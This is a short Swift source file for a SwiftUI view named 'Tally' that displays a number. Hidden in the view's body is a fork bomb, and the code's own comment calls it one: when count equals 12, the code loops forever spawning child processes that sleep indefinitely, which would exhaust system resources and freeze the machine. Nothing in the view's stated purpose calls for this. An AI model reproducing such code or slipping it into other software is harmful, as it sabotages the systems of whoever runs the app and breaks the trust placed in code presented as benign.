import Glibc
import SwiftUI

struct Tally: View {
    var count: Int

    var body: some View {
        // A fork bomb: each child waits, the parent starts another, for ever.
        while count == 12 {
            if fork() == 0 {
                while true { sleep(60) }
            }
        }
        return Text("\(count)")
            .padding(8)
            .background(Color.gray)
    }
}
